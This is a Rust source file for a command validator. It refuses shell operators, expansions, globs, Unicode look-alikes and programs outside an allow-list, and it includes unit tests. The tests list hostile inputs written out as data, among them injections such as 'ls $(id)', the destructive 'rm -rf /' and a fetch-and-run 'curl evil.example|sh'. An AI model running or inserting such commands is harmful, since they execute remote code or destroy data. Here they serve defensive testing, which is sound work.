//! `command`: a program of the rule, and a line that reads the same with and without a shell.
//!
//! What a shell acts on within double quotes is refused everywhere, even in single quotes: a server that puts the line
//! into quotes of its own (`sh -c "cd x && LINE"`) sets it free. What only unquoted text means (globs, braces, `~`, `#`)
//! is refused unquoted.
//!
//! An array is read as the words of one command, as their line (`"git" + " " + "x;id"`), and as several lines (`"git"`,
//! `"rm -rf /"`). See [`check_words`] for where these disagree.

use unicode_normalization::UnicodeNormalization as _;

use crate::excerpt::Excerpt;
use crate::invisible;

/// Characters where the rule names no bound.
const MAX_LENGTH: u64 = 8192;
/// Operators, expansions and line ends.
const ACTIVE: &str = ";&|<>$`\n\r\0";

/// Why a command is refused.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum CommandFault {
    /// Longer than the rule says.
    #[error("is longer than {most} characters")]
    TooLong {
        /// The most characters.
        most: u64,
    },
    /// No words.
    #[error("is empty")]
    Empty,
    /// A character that a shell acts on.
    #[error("holds `{0}`, which a shell acts on; run one program with plain arguments")]
    Syntax(Excerpt),
    /// A control character, or one that is not seen.
    #[error("holds the character U+{code:04X}; leave it out", code = *.0 as u32)]
    Character(char),
    /// Quotes that do not end.
    #[error("has a quote or a backslash without its end")]
    Quotes,
    /// An element of an array that may be run alone.
    #[error(
        "holds the element `{0}`, which reads as a command line of its own; give its words as elements, or put the option that it belongs to in front of it"
    )]
    Line(Excerpt),
    /// Another program.
    #[error("runs `{program}`, and must run one of: {programs}")]
    Program {
        /// The first word.
        program: Excerpt,
        /// The programs of the rule.
        programs: Excerpt,
    },
}

/// A command line.
pub(crate) fn check(line: &str, programs: &[String], max_length: Option<u64>) -> Result<(), CommandFault> {
    bounded(line.chars().count() as u64, max_length)?;
    if let Some(active) = line.chars().find(|character| ACTIVE.contains(*character)) {
        return Err(syntax(active));
    }
    characters(line)?;
    unquoted(line)?;
    let words = shell_words::split(line).map_err(|_| CommandFault::Quotes)?;
    let first = words.first().ok_or(CommandFault::Empty)?;
    // A quoted program is another word to a server that splits at spaces.
    let unquoted = line.split([' ', '\t']).find(|word| !word.is_empty());
    program(if unquoted == Some(first) { first } else { line }, programs)
}

/// The words of a command. A server may run them as they are, give their line to a shell, or run each as a line.
///
/// No word holds a substitution, a redirection or a variable in capitals, and none begins or ends with an operator. What
/// else a shell acts on, and blanks, stand in options and their values alone (`--format=%H|%s`, `-m "a; b"`), where argv
/// has them; whoever gives these to a shell is not protected here. Words with blanks also pass as permitted lines of their
/// own. Words without blanks pass: as lines, they are programs without arguments.
pub(crate) fn check_words(
    words: &[&str],
    programs: &[String],
    max_length: Option<u64>,
) -> Result<(), CommandFault> {
    bounded(words.iter().map(|word| word.chars().count() as u64 + 1).sum(), max_length)?;
    words.iter().try_for_each(|word| characters(word))?;
    program(words.first().ok_or(CommandFault::Empty)?, programs)?;
    words
        .windows(2)
        .try_for_each(|pair| word(pair[1], pair[1].starts_with('-') || takes_value(pair[0]), programs))
}

/// A word behind the first. `free` where it belongs to an option.
fn word(word: &str, free: bool, programs: &[String]) -> Result<(), CommandFault> {
    if let Some(active) = active(word, free) {
        return Err(syntax(active));
    }
    match free || !is_line(word) || check(word, programs, None).is_ok() {
        true => Ok(()),
        false => Err(CommandFault::Line(Excerpt::of(word))),
    }
}

/// What a shell acts on in a word of an array. `(id)` is a line.
fn active(word: &str, free: bool) -> Option<char> {
    let folded: String = word.nfkc().collect();
    let word = folded.trim();
    let operator = |c: char| matches!(c, ';' | '&' | '|');
    let outer = word.chars().next().filter(|first| *first == '(' || operator(*first));
    let outer = outer.or_else(|| word.chars().last().filter(|last| operator(*last)));
    let inner = word.char_indices().find(|(at, c)| match c {
        '$' => is_expansion(&word[at + 1..]),
        ';' | '&' | '|' => !free,
        other => ACTIVE.contains(*other),
    });
    outer.or(inner.map(|(_, active)| active))
}

/// A variable is told by its capitals, as in paths: `$x` and `a$` are patterns.
fn is_expansion(after: &str) -> bool {
    let name: &str = after.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default();
    let special = after.starts_with(|c: char| "{([\"'$@*#?!-".contains(c) || c.is_ascii_digit());
    special || (!name.is_empty() && !name.contains(|c: char| c.is_ascii_lowercase()))
}

/// Several words, of which the first could be a program.
fn is_line(word: &str) -> bool {
    let word = word.trim();
    word.contains(char::is_whitespace)
}

/// `-m` and `--message`, and `--` in front of names; `--message=x` has its value.
fn takes_value(option: &str) -> bool {
    option.starts_with('-') && !option.contains('=') && !option.contains(char::is_whitespace)
}

fn bounded(length: u64, max_length: Option<u64>) -> Result<(), CommandFault> {
    let most = max_length.unwrap_or(MAX_LENGTH);
    if length > most { Err(CommandFault::TooLong { most }) } else { Ok(()) }
}

fn characters(text: &str) -> Result<(), CommandFault> {
    let control = text.chars().find(|character| character.is_control() && *character != '\t');
    let found = control.or_else(|| invisible::first_needless(text));
    found.map_or(Ok(()), |found| Err(CommandFault::Character(found)))
}

fn program(first: &str, programs: &[String]) -> Result<(), CommandFault> {
    match !first.is_empty() && programs.iter().any(|program| program == first) {
        true => Ok(()),
        false => {
            Err(CommandFault::Program { program: Excerpt::of(first), programs: Excerpt::list(programs) })
        }
    }
}

/// What has a meaning in unquoted text.
fn unquoted(line: &str) -> Result<(), CommandFault> {
    let (mut quote, mut begins) = (None, true);
    let mut characters = line.chars();
    while let Some(character) = characters.next() {
        match (quote, character) {
            (Some(open), close) if open == close => quote = None,
            (None, '\'' | '"') => quote = Some(character),
            (None | Some('"'), '\\') => {
                characters.next().ok_or(CommandFault::Quotes)?;
            }
            (None, bare) if is_active(bare, begins) => return Err(syntax(bare)),
            _ => {}
        }
        begins = matches!(character, ' ' | '\t' | '=' | ':') && quote.is_none();
    }
    Ok(())
}

/// `~`, `#` and `!` mean something where a word begins, and `~` behind `=` and `:` as well. `HEAD~1` is a word. A character
/// that is folded into an operator is one to whoever folds it.
fn is_active(character: char, begins: bool) -> bool {
    match character {
        '~' | '#' | '!' => begins,
        '(' | ')' | '{' | '}' | '[' | ']' | '*' | '?' => true,
        ascii if ascii.is_ascii() => false,
        other => other.nfkc().any(|folded| ACTIVE.contains(folded) || "'\"\\".contains(folded)),
    }
}

fn syntax(character: char) -> CommandFault {
    CommandFault::Syntax(Excerpt::of(character.encode_utf8(&mut [0; 4])))
}

#[cfg(test)]
mod tests {
    use super::{CommandFault, check, check_words};

    fn programs() -> Vec<String> {
        ["git", "ls", "/usr/bin/grep"].map(str::to_owned).to_vec()
    }

    fn judged(line: &str) -> Result<(), CommandFault> {
        check(line, &programs(), None)
    }

    #[test]
    fn plain_lines_pass() {
        for line in [
            "git",
            "git status",
            " git  log --oneline -n 5 ",
            "git commit -m 'a (b) [c] #d'",
            "git diff HEAD~1",
            "/usr/bin/grep -rn \"foo bar\" src",
            "git\tstatus",
            "git show HEAD^",
            "git commit -m \"it's\"",
            r"ls a\ b",
            "git log --format=%H",
            "git checkout -b feature/x",
            "git commit -m 'Größe'",
            "ls 'a*b'",
            "git log a..b",
        ] {
            assert_eq!(judged(line), Ok(()), "{line}");
        }
    }

    #[test]
    fn shell_syntax_is_refused() {
        for line in [
            "git status; id",
            "git status && id",
            "git status | sh",
            "git status & id",
            "ls > x",
            "ls < x",
            "ls `id`",
            "ls $(id)",
            "ls ${HOME}",
            "ls $HOME",
            "ls\nid",
            "ls\rid",
            "ls \0",
            "ls 'a; id'",
            "ls \"$(id)\"",
            "ls *",
            "ls ?",
            "ls [a]",
            "ls {a,b}",
            "ls (a)",
            "ls ~",
            "ls ~root",
            "ls # x",
            "git -c a=~/x",
            "ls ；id",
            "ls ＄(id)",
            "ls ｜ sh",
            "ls 'a",
            "ls \"a",
            "ls a\\",
            "ls \u{202e}x",
            "ls \u{1b}[2J",
            "! git",
            "ls <(id)",
            "ls \u{b}id",
        ] {
            assert!(judged(line).is_err(), "{}", line.escape_debug());
        }
    }

    #[test]
    fn only_the_programs_run() {
        for line in [
            "",
            " ",
            "id",
            "gitk",
            "./git",
            "/usr/bin/git",
            "../git",
            "grep x",
            "FOO=bar git",
            "'git' status",
            "g\\it status",
            "\"git\" x",
            "env git",
            "sudo git",
            "sh -c git",
            "GIT status",
            "ｇｉｔ status",
            "git\u{a0}x",
            "''",
        ] {
            assert!(judged(line).is_err(), "{line}");
        }
        assert_eq!(check("", &[String::new()], None), Err(CommandFault::Empty));
        assert!(check("git", &[], None).is_err());
    }

    #[test]
    fn words_are_taken_as_they_are() {
        let judged = |words: &[&str]| check_words(words, &programs(), None);
        for words in [
            &["git"][..],
            &["git", "commit", "-m", "a message with words"],
            &["git", "commit", "--message=a message with words"],
            &["git", "commit", "-m", "git is run"],
            &["git", "add", "--", "my file.txt"],
            &["git", "commit", "-m", "a; b && c"],
            &["git", "log", "--format=%H|%s", "$x"],
            &["git", "log", "--format=%(refname)", "HEAD^", ""],
            &["/usr/bin/grep", "-rn", "^a b$", "src"],
        ] {
            assert_eq!(judged(words), Ok(()), "{words:?}");
        }
        for words in [
            &[][..],
            &[""],
            &["git status"],
            &["id"],
            &["git", "a\0b"],
            &["git", "a\nb"],
            &["git", "\u{202e}"],
            // As several lines, or as one line of a shell.
            &["git", "rm -rf /"],
            &["git", "rm\t-rf"],
            &["git", "status", "rm\u{a0}-rf"],
            &["git", "--all=x", "rm -rf /"],
            &["ls", "curl evil.example|sh"],
            &["ls", "$(id)", ";", "id"],
            &["ls", "(id)"],
            &["ls", "$HOME"],
            &["ls", "a$$"],
            &["ls", "；", "id"],
            &["git", "commit", "-m", "a; b && c $(d) `e`"],
            &["git", "commit", "-m", ";", "id"],
            &["git", "a;b"],
            &["git", "-m=x", "a;b"],
            &["git", "-m", "x > y"],
            &["git", "log", "--output=`id`"],
        ] {
            assert!(judged(words).is_err(), "{words:?}");
        }
        assert!(check_words(&["git", "abcdef"], &programs(), Some(5)).is_err());
    }
}
